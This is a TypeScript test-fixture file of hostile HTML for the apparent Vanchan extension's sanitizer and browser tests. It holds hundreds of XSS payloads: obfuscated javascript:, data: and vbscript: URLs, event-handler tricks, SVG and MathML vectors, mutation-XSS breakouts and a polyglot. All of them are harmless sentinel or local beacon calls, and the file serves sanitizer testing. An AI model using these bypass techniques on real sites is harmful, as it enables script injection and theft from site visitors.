/** Hostile markup for Vanchan's sanitizer, pipeline and browser tests.
 *
 * Every payload, if it ever ran in an extension page, either sets `window.__vanchanPwned` (or
 * `top.`/`parent.__vanchanPwned`) to its own id, or requests `${beaconOrigin}/beacon/<id>` (a path
 * that starts so), so that a browser test can tell execution and network requests apart by id.
 * Payloads carry the default beacon origin (`http://127.0.0.1:9`); `hostilePage` rewrites it, also
 * inside base64 (`;base64,…` and `atob('…')`), for the origin a test serves.
 *
 * The html of every payload is a plain string; the makers below only build the strings once. */

export type PayloadPlace = 'body' | 'title' | 'byline' | 'jsonld' | 'head' | 'attribute';
export interface Payload {
  id: string;
  place: PayloadPlace;
  html: string;
}

export const SENTINEL = '__vanchanPwned';
/** Port 9 (discard): nothing answers there, so a request that slips through goes nowhere. */
export const DEFAULT_BEACON_ORIGIN = 'http://127.0.0.1:9';

// --- Building blocks -------------------------------------------------------------------------

const bc = (id: string): string => `${DEFAULT_BEACON_ORIGIN}/beacon/${id}`;
/** Sets the sentinel. No spaces: fits unquoted attribute values too. */
const w = (id: string): string => `window.${SENTINEL}='${id}'`;
/** Sets the sentinel without any quote character: fits inside quoted attribute values. */
const wr = (id: string): string => `window.${SENTINEL}=/${id}/.source`;
const tp = (id: string): string => `top.${SENTINEL}='${id}'`;
const pa = (id: string): string => `parent.${SENTINEL}='${id}'`;
const par = (id: string): string => `parent.${SENTINEL}=/${id}/.source`;
const fb = (id: string): string => `fetch('${bc(id)}')`;
/** A javascript: URL body that sets the sentinel and leaves the document alone. */
const jv = (id: string): string => `void(${w(id)})`;
const jvTop = (id: string): string => `void(${tp(id)})`;
const b64 = (text: string): string => btoa(text);
const SENTINEL_B64 = b64(SENTINEL);
const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
const SVG_NS = 'http://www.w3.org/2000/svg';
/** A data:text/html document that requests the beacon (frames of data: URLs have no access to us). */
const htmlDoc = (id: string): string => `<script>try{${tp(id)}}catch(e){}${fb(id)}</script>`;
const deep = (n: number, inner: string): string => '<div>'.repeat(n) + inner + '</div>'.repeat(n);

// Elements that the HTML parser treats as void but happy-dom (the CLI's parser) does not
// (keygen, frame, image) get a stray end tag, which browsers ignore, so that they do not take the
// rest of the article with them in happy-dom.
type Maker = (id: string) => string;

function group(place: PayloadPlace, kind: string, makers: readonly Maker[]): Payload[] {
  return makers.map((make, i) => {
    const id = `${place}-${kind}-${String(i + 1).padStart(2, '0')}`;
    return { id, place, html: make(id) };
  });
}

/** Ways of writing "javascript:" that URL parsers and browsers still read as the scheme. */
const JS_SCHEMES: readonly ((body: string) => string)[] = [
  (b) => `javascript:${b}`,
  (b) => `JaVaScRiPt:${b}`,
  (b) => `JAVASCRIPT:${b}`,
  (b) => `&#106;avascript:${b}`,
  (b) => `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${b}`,
  (b) => `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${b}`,
  (b) => `java\tscript:${b}`,
  (b) => `java&#x09;script:${b}`,
  (b) => `java\nscript:${b}`,
  (b) => `java&#x0A;script:${b}`,
  (b) => `java&#13;script:${b}`,
  (b) => `   javascript:${b}`,
  (b) => `&#x01;javascript:${b}`,
  (b) => `\u0001\u001f javascript:${b}`,
  (b) => `javascript&colon;${b}`,
  (b) => `jav&#x61;script&#58;${b}`,
  (b) => `&#x20;&#x09;&#x0D;JaVa\tScRiPt:${b}`,
  (b) => `javascript://%0A${b}`,
  (b) => `\u000Cjavascript:${b}`,
  (b) => `ja\r\nvascript:${b}`,
];

// --- <script> ----------------------------------------------------------------------------------

const SCRIPT: Maker[] = [
  (id) => `<script>${w(id)}</script>`,
  (id) => `<SCRIPT>${w(id)}</SCRIPT>`,
  (id) => `<script type="text/javascript">${w(id)}</script>`,
  (id) => `<script type="module">${w(id)}</script>`,
  (id) => `<script type="application/javascript">${w(id)}</script>`,
  (id) => `<script type="text/ecmascript">${w(id)}</script>`,
  (id) => `<script type="TEXT/JAVASCRIPT">${w(id)}</script>`,
  (id) => `<script language="javascript">${w(id)}</script>`,
  (id) => `<script type="">${w(id)}</script>`,
  (id) => `<script type="application/x-javascript">${w(id)}</script>`,
  (id) => `<script src="${bc(id)}"></script>`,
  (id) => `<script async src="${bc(id)}.js"></script>`,
  (id) => `<script defer src="${bc(id)}"></script>`,
  (id) => `<script type="module" src="${bc(id)}"></script>`,
  (id) => `<script type="module">import '${bc(id)}';</script>`,
  (id) => `<script nomodule src="${bc(id)}"></script>`,
  (id) => `<script src="data:text/javascript,${encodeURIComponent(w(id))}"></script>`,
  (id) => `<script src="data:,${w(id)}"></script>`,
  (id) => `<script src="data:text/javascript;base64,${b64(`${w(id)};${fb(id)}`)}"></script>`,
  (id) => `<script/src="${bc(id)}"></script>`,
  (id) => `<script\nsrc="${bc(id)}"\n></script>`,
  (id) => `<script>/*<!--*/${w(id)}//--></script>`,
  (id) => `<script>eval(atob('${b64(w(id))}'))</script>`,
  (id) => `<script>window['__vanchan'+'Pwned']='${id}'</script>`,
  (id) => `<script>setTimeout("${w(id)}")</script>`,
  (id) => `<script>Function("${w(id)}")()</script>`,
  (id) => `<script>navigator.sendBeacon('${bc(id)}')</script>`,
  (id) => `<script>new Image().src='${bc(id)}'</script>`,
  (id) => `<script>document.write('<img src=${bc(id)}>')</script>`,
  (id) => `<div><script>${w(id)}</script></div>`,
  (id) => `<table><script>${w(id)}</script></table>`,
  (id) => `<select><script>${w(id)}</script></select>`,
  (id) => `<svg><script>${w(id)}</script></svg>`,
  (id) => `<svg><script href="${bc(id)}"/></svg>`,
  (id) => `<svg><script xlink:href="data:,${w(id)}"></script></svg>`,
  (id) => `<svg><script type="text/ecmascript"><![CDATA[${w(id)}]]></script></svg>`,
  (id) => `<math><mtext><script>${w(id)}</script></mtext></math>`,
  (id) => `<math><script>${w(id)}</script></math>`,
  (id) => `<template><script>${w(id)}</script></template>`,
  (id) => `<noscript><script>${w(id)}</script></noscript>`,
  (id) => `<iframe srcdoc="&lt;script&gt;${pa(id)}&lt;/script&gt;"></iframe>`,
  (id) => `<iframe srcdoc="<script>${pa(id)}</script>"></iframe>`,
  (id) => `<object><script>${w(id)}</script></object>`,
  (id) => `<svg><foreignObject><script>${w(id)}</script></foreignObject></svg>`,
  (id) => `<math><annotation-xml encoding="text/html"><script>${w(id)}</script></annotation-xml></math>`,
  (id) => `&lt;script&gt;${w(id)}&lt;/script&gt;`,
  (id) => `<p>&amp;lt;script&amp;gt;${w(id)}&amp;lt;/script&amp;gt;</p>`,
];

// --- Event handlers ----------------------------------------------------------------------------

const HANDLER: Maker[] = [
  // img
  (id) => `<img src=x onerror=${w(id)}>`,
  (id) => `<img src="x" onerror="${w(id)}">`,
  (id) => `<IMG SRC=x ONERROR="${w(id)}">`,
  (id) => `<img/src="x"/onerror="${w(id)}">`,
  (id) => `<img src=x onerror\n=\n"${w(id)}">`,
  (id) => `<img src="x"onerror="${w(id)}">`,
  (id) => `<img src=x onerror="&#119;indow.${SENTINEL}='${id}'">`,
  (id) => `<img src=x onerror="javascript:${w(id)}">`,
  (id) => `<img src=x onerror="window[atob('${SENTINEL_B64}')]='${id}'">`,
  (id) => `<img src="x:x" onerror="${w(id)}">`,
  (id) => `<img src="${GIF}" onload="${w(id)}">`,
  (id) => `<img src="${bc(id)}" onload="${w(id)}">`,
  (id) => `<img src=x style="display:block;width:100%;height:400px" onmouseover="${w(id)}">`,
  (id) => `<img src="https://cdn.news.example/a.jpg" onclick="${w(id)}">`,
  (id) => `<image src=x onerror="${w(id)}"></image>`,
  (id) => `<img srcset="x 1x" onerror="${w(id)}">`,
  (id) => `<picture><source srcset="x"><img src="x" onerror="${w(id)}"></picture>`,
  // svg
  (id) => `<svg onload="${w(id)}"></svg>`,
  (id) => `<svg/onload=${w(id)}></svg>`,
  (id) => `<svg><rect width="100" height="100" onmouseover="${w(id)}"/></svg>`,
  (id) => `<svg><g onclick="${w(id)}"><circle r="50"/></g></svg>`,
  // video, audio
  (id) => `<video src=x onerror="${w(id)}"></video>`,
  (id) => `<video><source src=x onerror="${w(id)}"></video>`,
  (id) => `<video autoplay muted src=x onloadstart="${w(id)}"></video>`,
  (id) => `<video controls onplay="${w(id)}"><source src="x"></video>`,
  (id) => `<audio src=x onerror="${w(id)}"></audio>`,
  (id) => `<audio autoplay src=x onloadstart="${w(id)}"></audio>`,
  (id) => `<video><track default src=x onerror="${w(id)}"></video>`,
  // focus
  (id) => `<input autofocus onfocus="${w(id)}">`,
  (id) => `<input onblur="${w(id)}" autofocus><input autofocus>`,
  (id) => `<input type="image" src=x onerror="${w(id)}">`,
  (id) => `<input value="x" onfocusin="${w(id)}" autofocus>`,
  (id) => `<textarea autofocus onfocus="${w(id)}"></textarea>`,
  (id) => `<select autofocus onfocus="${w(id)}"></select>`,
  (id) => `<button autofocus onfocus="${w(id)}">x</button>`,
  (id) => `<keygen autofocus onfocus="${w(id)}"></keygen>`,
  (id) => `<div contenteditable autofocus onfocus="${w(id)}">x</div>`,
  (id) => `<x tabindex="1" autofocus onfocus="${w(id)}"></x>`,
  (id) => `<a href="#" autofocus onfocus="${w(id)}">x</a>`,
  // toggles
  (id) => `<details open ontoggle="${w(id)}"><summary>x</summary>x</details>`,
  (id) => `<details ontoggle=${w(id)} open>x</details>`,
  (id) => `<div popover id="vp${id.slice(-2)}" onbeforetoggle="${w(id)}">x</div>`,
  // body, frames, objects
  (id) => `<body onload="${w(id)}">`,
  (id) => `<body onpageshow="${w(id)}">`,
  (id) => `<body onfocus="${w(id)}">`,
  (id) => `<body onhashchange="${w(id)}">`,
  (id) => `<body onresize="${w(id)}">`,
  (id) => `<body onscroll="${w(id)}">`,
  (id) => `<iframe onload="${w(id)}"></iframe>`,
  (id) => `<iframe src="about:blank" onload="${w(id)}"></iframe>`,
  (id) => `<iframe srcdoc="x" onload="${w(id)}"></iframe>`,
  (id) => `<object data=x onerror="${w(id)}"></object>`,
  (id) => `<object data="${bc(id)}" onload="${w(id)}"></object>`,
  (id) => `<embed src=x onload="${w(id)}">`,
  // marquee, animation, misc
  (id) => `<marquee onstart="${w(id)}">x</marquee>`,
  (id) => `<marquee loop="1" width="0" onfinish="${w(id)}">x</marquee>`,
  (id) => `<style>@keyframes vanchan{from{opacity:0}}</style><div style="animation:vanchan 1s" onanimationstart="${w(id)}"></div>`,
  (id) => `<div style="animation-name:vanchan;animation-duration:1ms" onanimationend="${w(id)}"></div>`,
  (id) => `<p style="transition:color 1ms" ontransitionend="${w(id)}">x</p>`,
  (id) => `<div style="position:fixed;inset:0" onpointerenter="${w(id)}"></div>`,
  (id) => `<div onwheel="${w(id)}">x</div>`,
  (id) => `<p onclick="${w(id)}">x</p>`,
  (id) => `<a onmouseover="${w(id)}">x</a>`,
  (id) => `<span onmouseenter="${w(id)}">x</span>`,
  (id) => `<a href="https://news.example/" onauxclick="${w(id)}">x</a>`,
  (id) => `<style onload="${w(id)}"></style>`,
  (id) => `<link rel="stylesheet" href=x onerror="${w(id)}">`,
  (id) => `<script src=x onerror="${w(id)}"></script>`,
  (id) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${w(id)}">x</div>`,
  (id) => `<div style="overflow:auto;height:10px" onscroll="${w(id)}"><br><br><br><br></div>`,
  (id) => `<html onmouseover="${w(id)}">`,
  (id) => `<table background=x onerror="${w(id)}"><tr><td onmouseover="${w(id)}">x</td></tr></table>`,
];

// --- javascript:, data: and vbscript: URLs ------------------------------------------------------

const JS_URL_LINK: Maker[] = JS_SCHEMES.map((scheme) => (id: string) => `<a href="${scheme(jv(id))}">વધુ વાંચો</a>`);

const JS_URL_TARGET: Maker[] = [
  (id) => `<a href="javascript:${w(id)}">x</a>`,
  (id) => `<a href=javascript:${jv(id)}>x</a>`,
  (id) => `<a href='javascript:void(window.${SENTINEL}="${id}")'>x</a>`,
  (id) => `<a href="javascript:void(window.${SENTINEL}=%27${id}%27)">x</a>`,
  (id) => `<iframe src="javascript:${jvTop(id)}"></iframe>`,
  (id) => `<iframe src="JaVaScRiPt:${jvTop(id)}"></iframe>`,
  (id) => `<iframe src="&#106;avascript:${jvTop(id)}"></iframe>`,
  (id) => `<iframe src="java\tscript:${jvTop(id)}"></iframe>`,
  (id) => `<iframe src=" &#x01;javascript:${jvTop(id)}"></iframe>`,
  (id) => `<form action="javascript:${jv(id)}"><button>x</button></form>`,
  (id) => `<form action="JAVASCRIPT:${jv(id)}"><input type="submit" value="x"></form>`,
  (id) => `<form action="java&#x0A;script:${jv(id)}"><button>x</button></form>`,
  (id) => `<form><button formaction="javascript:${jv(id)}">x</button></form>`,
  (id) => `<form><button formaction="&#x6A;avascript:${jv(id)}">x</button></form>`,
  (id) => `<form><input type="submit" formaction="javascript:${jv(id)}" value="x"></form>`,
  (id) => `<form><input type="image" src="x" formaction=" javascript:${jv(id)}"></form>`,
  (id) => `<svg><a xlink:href="javascript:${jv(id)}"><text x="20" y="20">x</text></a></svg>`,
  (id) => `<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="&#106;avascript:${jv(id)}"><text>x</text></a></svg>`,
  (id) => `<svg><a href="javascript:${jv(id)}"><circle r="100"/></a></svg>`,
  (id) => `<svg><a href="java&#x09;script:${jv(id)}"><rect width="50" height="50"/></a></svg>`,
  (id) => `<object data="javascript:${jvTop(id)}"></object>`,
  (id) => `<object data="JaVaScRiPt:${jvTop(id)}" type="text/html"></object>`,
  (id) => `<embed src="javascript:${jvTop(id)}">`,
  (id) => `<embed src="&#106;avascript:${jvTop(id)}" type="text/html">`,
  (id) => `<math href="javascript:${jv(id)}"><mi>x</mi></math>`,
  (id) => `<math><mi href="javascript:${jv(id)}">x</mi></math>`,
  (id) => `<map name="m"><area shape="rect" coords="0,0,400,400" href="javascript:${jv(id)}"></map><img usemap="#m" src="https://cdn.news.example/a.jpg">`,
  (id) => `<img src="javascript:${jv(id)}">`,
  (id) => `<img src="&#106;avascript:${jv(id)}" alt="">`,
  (id) => `<frame src="javascript:${jvTop(id)}"></frame>`,
  (id) => `<isindex action="javascript:${jv(id)}" type="image"></isindex>`,
  (id) => `<link rel="stylesheet" href="javascript:${jv(id)}">`,
  (id) => `<blockquote cite="javascript:${jv(id)}">x</blockquote>`,
  (id) => `<q cite="java\nscript:${jv(id)}">x</q>`,
  (id) => `<video poster="javascript:${jv(id)}"></video>`,
  (id) => `<a href="javascript:${jv(id)}"><img src="https://cdn.news.example/a.jpg" alt="ફોટો"></a>`,
  (id) => `<a href="  javascript:${jv(id)}" title="https://news.example/">https://news.example/</a>`,
  // The well-known polyglot, closed off so the page goes on.
  (id) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${w(id)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${wr(id)}//>\\x3e</svg>`,
];

const DATA_URL: Maker[] = [
  (id) => `<a href="data:text/html,${htmlDoc(id)}">x</a>`,
  (id) => `<a href="DATA:text/html;charset=utf-8,${htmlDoc(id)}">x</a>`,
  (id) => `<a href=" data:text/html;base64,${b64(htmlDoc(id))}">x</a>`,
  (id) => `<a href="&#100;ata:text/html,${htmlDoc(id)}">x</a>`,
  (id) => `<a href="da\tta:text/html,${htmlDoc(id)}">x</a>`,
  (id) => `<iframe src="data:text/html,${htmlDoc(id)}"></iframe>`,
  (id) => `<iframe src="data:text/html;base64,${b64(htmlDoc(id))}"></iframe>`,
  (id) => `<iframe src="data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><body><img src='${bc(id)}'/></body></html>"></iframe>`,
  (id) => `<iframe src="data:image/svg+xml,<svg xmlns='${SVG_NS}' onload='fetch(\`${bc(id)}\`)'/>"></iframe>`,
  (id) => `<object data="data:text/html,${htmlDoc(id)}"></object>`,
  (id) => `<object type="text/html" data="data:text/html;base64,${b64(htmlDoc(id))}"></object>`,
  (id) => `<embed src="data:text/html,${htmlDoc(id)}">`,
  (id) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='${SVG_NS}' onload='fetch(\`${bc(id)}\`)'/>">`,
  (id) => `<form action="data:text/html,${htmlDoc(id)}"><button>x</button></form>`,
  (id) => `<form><button formaction="data:text/html,${htmlDoc(id)}">x</button></form>`,
  (id) => `<img src="data:text/html,${htmlDoc(id)}" alt="">`,
  (id) => `<img src="data:text/html;base64,${b64(htmlDoc(id))}" alt="">`,
  (id) => `<picture><source src="data:text/html;base64,${b64(htmlDoc(id))}"><img src="https://cdn.news.example/a.jpg" alt=""></picture>`,
  (id) => `<img src="data:image/svg+xml,<svg xmlns='${SVG_NS}' onload='fetch(\`${bc(id)}\`)'><image href='${bc(id)}/i'/></svg>" alt="">`,
  (id) => `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="${SVG_NS}"><script>${fb(id)}</script></svg>`)}" alt="">`,
  (id) => `<video><source src="data:text/html,${htmlDoc(id)}"></video>`,
  (id) => `<picture><source srcset="data:text/html,${htmlDoc(id)}"><img src="https://cdn.news.example/a.jpg" alt=""></picture>`,
  (id) => `<link rel="stylesheet" href="data:text/css,*{background:url(${bc(id)})}">`,
  (id) => `<script src="data:application/javascript,${fb(id)}"></script>`,
  (id) => `<a href="vbscript:window.location.href=&quot;${bc(id)}&quot;">x</a>`,
  (id) => `<a href="VBSCRIPT:window.execScript(&quot;${w(id)}&quot;,&quot;javascript&quot;)">x</a>`,
  (id) => `<a href=" Vb&#x53;cript:window.location.href=&quot;${bc(id)}&quot;">x</a>`,
  (id) => `<img src="vbscript:window.location.href=&quot;${bc(id)}&quot;">`,
  (id) => `<iframe src="vbscript:window.location.href=&quot;${bc(id)}&quot;"></iframe>`,
  (id) => `<form action="vbscript:window.location.href=&quot;${bc(id)}&quot;"><button>x</button></form>`,
];

// --- SVG -------------------------------------------------------------------------------------

const SVG: Maker[] = [
  (id) => `<svg><foreignObject><img src=x onerror="${w(id)}"></foreignObject></svg>`,
  (id) => `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${pa(id)}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  (id) => `<svg><foreignObject><body onload="${w(id)}"></body></foreignObject></svg>`,
  (id) => `<svg><foreignobject><details open ontoggle="${w(id)}"></details></foreignobject></svg>`,
  (id) => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="${SVG_NS}"><image href="x" onerror="${fb(id)}"/></svg>`)}#x"/></svg>`,
  (id) => `<svg><use xlink:href="data:image/svg+xml,<svg id='x' xmlns='${SVG_NS}'><image href='x' onerror='${wr(id)}'/></svg>#x"/></svg>`,
  (id) => `<svg><use href="${bc(id)}#x"/></svg>`,
  (id) => `<svg><a><animate attributeName="href" values="javascript:${jv(id)}"/><text x="20" y="20">x</text></a></svg>`,
  (id) => `<svg><a><set attributeName="href" to="javascript:${jv(id)}"/><text x="20" y="20">x</text></a></svg>`,
  (id) => `<svg><a><set attributeName="xlink:href" to="javascript:${jv(id)}"/><text x="20" y="20">x</text></a></svg>`,
  (id) => `<svg><animate onbegin="${w(id)}" attributeName="x" dur="1s"/></svg>`,
  (id) => `<svg><set onbegin="${w(id)}" attributeName="x" to="1"/></svg>`,
  (id) => `<svg><animate onend="${w(id)}" attributeName="x" dur="1ms"/></svg>`,
  (id) => `<svg><animateTransform onbegin="${w(id)}" attributeName="transform" type="rotate" dur="1s"/></svg>`,
  (id) => `<svg><animateMotion onrepeat="${w(id)}" path="M0,0 L10,10" dur="1ms" repeatCount="2"/></svg>`,
  (id) => `<svg><discard onbegin="${w(id)}"/></svg>`,
  (id) => `<svg><image href="x" onerror="${w(id)}"/></svg>`,
  (id) => `<svg><image xlink:href="${bc(id)}"/></svg>`,
  (id) => `<svg><filter id="f"><feImage href="${bc(id)}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  (id) => `<svg><rect width="100" height="100"><set attributeName="onmouseover" to="${w(id)}"/></rect></svg>`,
  (id) => `<svg><animate attributeName="href" to="javascript:${jv(id)}" xlink:href="#v"/><a id="v"><text>x</text></a></svg>`,
  (id) => `<svg><style>@import url(${bc(id)});</style></svg>`,
  (id) => `<svg><style>*{background:url(${bc(id)})}</style></svg>`,
  (id) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${w(id)}</handler></svg>`,
  (id) => `<svg><iframe src="javascript:${jvTop(id)}"></iframe></svg>`,
  (id) => `<svg><title><img src=x onerror="${w(id)}"></title></svg>`,
  (id) => `<svg><desc><img src=x onerror="${w(id)}"></desc></svg>`,
  (id) => `<svg xmlns="${SVG_NS}"><script>${w(id)}</script><circle r="5" onload="${w(id)}"/></svg>`,
  (id) => `<svg><feImage xlink:href="javascript:${jv(id)}"/></svg>`,
  (id) => `<svg><a xlink:href="${bc(id)}"><text>x</text></a><image href="${bc(id)}/img"/></svg>`,
];

// --- MathML ----------------------------------------------------------------------------------

const MATHML: Maker[] = [
  (id) => `<math><maction actiontype="statusline#http://news.example" xlink:href="javascript:${jv(id)}">x</maction></math>`,
  (id) => `<math><maction actiontype="toggle" xlink:href="javascript:${jv(id)}"><mtext>x</mtext><mtext>y</mtext></maction></math>`,
  (id) => `<math><mtext><img src=x onerror="${w(id)}"></mtext></math>`,
  (id) => `<math><mi><img src=x onerror="${w(id)}"></mi></math>`,
  (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${w(id)}"></annotation-xml></math>`,
  (id) => `<math><annotation-xml encoding="application/xhtml+xml"><svg onload="${w(id)}"></svg></annotation-xml></math>`,
  (id) => `<math><semantics><annotation-xml encoding="TEXT/HTML"><iframe srcdoc="&lt;script&gt;${pa(id)}&lt;/script&gt;"></iframe></annotation-xml></semantics></math>`,
  (id) => `<math><mglyph src="${bc(id)}"></mglyph></math>`,
  (id) => `<math><mtext><mglyph><img src=x onerror="${w(id)}"></mglyph></mtext></math>`,
  (id) => `<math><mtext><malignmark><img src=x onerror="${w(id)}"></malignmark></mtext></math>`,
  (id) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${wr(id)} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
  (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${wr(id)}&gt;"></mglyph></table></mtext></math>`,
  (id) => `<math><mtext><mglyph><svg><mtext><style><img src=x onerror=${wr(id)}></style></mtext></svg></mglyph></mtext></math>`,
  (id) => `<math><mo><mglyph><malignmark><style><img src=x onerror=${wr(id)}></style></malignmark></mglyph></mo></math>`,
  (id) => `<math><mtext><malignmark><style><img src=x onerror=${wr(id)}></style></malignmark></mtext></math>`,
  (id) => `<math><style><img src=x onerror=${wr(id)}></style></math>`,
  (id) => `<math href="${bc(id)}"><mrow><mi>x</mi></mrow></math>`,
];

// --- mXSS, namespace confusion, raw-text breakouts, comments -------------------------------------

const MXSS: Maker[] = [
  (id) => `<noscript><p title="</noscript><img src=x onerror=${wr(id)}>"></p></noscript>`,
  (id) => `<noscript><style></noscript><img src=x onerror=${wr(id)}></style></noscript>`,
  (id) => `<noscript><img title="</noscript><iframe srcdoc='&lt;script&gt;${par(id)}&lt;/script&gt;'></iframe>"></noscript>`,
  (id) => `<style><img title="</style><img src=x onerror=${wr(id)}>"></style>`,
  (id) => `<title><img title="</title><img src=x onerror=${wr(id)}>"></title>`,
  (id) => `<textarea><img title="</textarea><img src=x onerror=${wr(id)}>"></textarea>`,
  (id) => `<xmp><img title="</xmp><img src=x onerror=${wr(id)}>"></xmp>`,
  (id) => `<noembed><img title="</noembed><img src=x onerror=${wr(id)}>"></noembed>`,
  (id) => `<noframes><img title="</noframes><img src=x onerror=${wr(id)}>"></noframes>`,
  (id) => `<iframe><img title="</iframe><img src=x onerror=${wr(id)}>"></iframe>`,
  (id) => `<template><img title="</template><img src=x onerror=${wr(id)}>"></template>`,
  (id) => `<template><svg><style><img src=x onerror=${wr(id)}></style></svg></template>`,
  (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${wr(id)}></style></mglyph></form></mtext></math>`,
  (id) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${wr(id)}>"></a></style></mtext></svg></mglyph></h1></mtext></math>`,
  (id) => `<svg></p><style><a id="</style><img src=1 onerror=${wr(id)}>"></a></style>`,
  (id) => `<svg><p><style><img src=x onerror=${wr(id)}></style></p></svg>`,
  (id) => `<img src=x id=x><svg><style><img src=x onerror=${wr(id)}></style></svg>`,
  (id) => `<svg><style><!--</style><img src=x onerror=${wr(id)}>--></style></svg>`,
  (id) => `<svg><style>&lt;img src=x onerror=${wr(id)}&gt;</style></svg>`,
  (id) => `<svg><title><a title="</title><img src=x onerror=${wr(id)}>"></a></title></svg>`,
  (id) => `<svg><foreignObject><p><math><mtext><style><img src=x onerror=${wr(id)}></style></mtext></math></p></foreignObject></svg>`,
  (id) => `<table><tr><td><svg><p><style><img src=x onerror=${wr(id)}></style></p></svg></td></tr></table>`,
  (id) => `<select><style></select><img src=x onerror=${wr(id)}></style></select>`,
  (id) => `<select><option><style></option></select><b><img src=x onerror=${wr(id)}></style></b></option></select>`,
  (id) => `<select><template><style></template></select><img src=x onerror=${wr(id)}></style></template></select>`,
  (id) => `<!--<img src=x onerror=${wr(id)}>-->`,
  (id) => `<!--><img src=x onerror=${wr(id)}>-->`,
  (id) => `<!---><img src=x onerror=${wr(id)}>-->`,
  (id) => `<!-- --!><img src=x onerror=${wr(id)}>-->`,
  (id) => `<!--[if IE]><img src=x onerror=${wr(id)}><![endif]-->`,
  (id) => `<![CDATA[><img src=x onerror=${wr(id)}>]]>`,
  (id) => `<svg><![CDATA[><img src=x onerror=${wr(id)}>]]></svg>`,
  (id) => `<svg><![CDATA[</svg><img src=x onerror=${wr(id)}>]]></svg>`,
  (id) => `<?x ><img src=x onerror=${wr(id)}>?>`,
  (id) => `<div title="--><img src=x onerror=${wr(id)}>"></div>`,
  (id) => `<a title="</style><img src=x onerror=${wr(id)}>">x</a>`,
  (id) => `<p title="<!--"><img src=x onerror=${wr(id)}>--></p>`,
  (id) => `<x/><title>&lt;/title&gt;&lt;img src=1 onerror=${wr(id)}&gt;</title>`,
  (id) => `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${wr(id)}&gt;</textarea>`,
  (id) => `<style>&lt;/style&gt;&lt;img src=x onerror=${wr(id)}&gt;</style>`,
  (id) => `<a href="https://news.example/"><table><a href="javascript:${jv(id)}">x</a></table></a>`,
  (id) => `<p><math><mtext><p><img src=x onerror=${wr(id)}></p></mtext></math></p>`,
  (id) => `<div id="</style><img src=x onerror=${wr(id)}>"></div><style></style>`,
  (id) => deep(260, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${wr(id)}></style></mglyph></form></mtext></math>`),
  (id) => deep(520, `<svg><p><style><img src=x onerror=${wr(id)}></style></p></svg>`),
  (id) => `<plaintext><img src=x onerror=${wr(id)}>`,
];

// --- Forms, meta refresh, base ------------------------------------------------------------------

const FORM: Maker[] = [
  (id) => `<form action="${bc(id)}"><input name="q" value="x"><button>શોધો</button></form>`,
  (id) => `<form method="post" action="${bc(id)}"><input name="x" autofocus onfocus="this.form.submit()"></form>`,
  (id) => `<form action="${bc(id)}"><input type="image" src="${bc(id)}/img"></form>`,
  (id) => `<form onsubmit="${w(id)}"><button>x</button></form>`,
  (id) => `<form oninput="${w(id)}"><input autofocus></form>`,
  (id) => `<form id="vf${id.slice(-2)}"></form><button form="vf${id.slice(-2)}" formaction="javascript:${jv(id)}">x</button>`,
  (id) => `<form id="vg${id.slice(-2)}"></form><input form="vg${id.slice(-2)}" type="submit" formaction="${bc(id)}" formmethod="post">`,
  (id) => `<button form="vanchanForm" formaction="${bc(id)}" formtarget="_top">x</button>`,
  (id) => `<form action="https://news.example/search"><input name="x" type="submit" formaction="javascript:${jv(id)}"></form>`,
  (id) => `<form><input name="action" value="javascript:${jv(id)}"><input type="submit"></form>`,
  (id) => `<form action="${bc(id)}"><textarea name="t" autofocus></textarea><button formnovalidate>x</button></form>`,
  (id) => `<fieldset><legend>x</legend><form action="${bc(id)}"><select name="s"><option>x</option></select></form></fieldset>`,
];

const META: Maker[] = [
  (id) => `<meta http-equiv="refresh" content="0;url=${bc(id)}">`,
  (id) => `<meta http-equiv="Refresh" content="1; ${bc(id)}">`,
  (id) => `<meta http-equiv="refresh" content="0; URL='javascript:${wr(id)}'">`,
  (id) => `<meta http-equiv="refresh" content="0;url=data:text/html,${htmlDoc(id)}">`,
  (id) => `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${w(id)}</script>`,
  (id) => `<base href="${bc(id)}/"><img src="pixel.gif" alt="">`,
  (id) => `<base href="javascript:${jv(id)}//"><a href="x">x</a>`,
  (id) => `<base target="_top" href="${bc(id)}/"><a href="x">x</a>`,
];

// --- Frames and plugins -------------------------------------------------------------------------

const FRAME: Maker[] = [
  (id) => `<iframe src="${bc(id)}"></iframe>`,
  (id) => `<iframe src="${bc(id)}" sandbox></iframe>`,
  (id) => `<iframe name="x" src="${bc(id)}" loading="eager" width="0" height="0"></iframe>`,
  (id) => `<iframe srcdoc="&lt;img src=x onerror=${par(id)}&gt;"></iframe>`,
  (id) => `<iframe srcdoc="<svg onload=${par(id)}>"></iframe>`,
  (id) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;script&gt;${pa(id)}&lt;/script&gt;"></iframe>`,
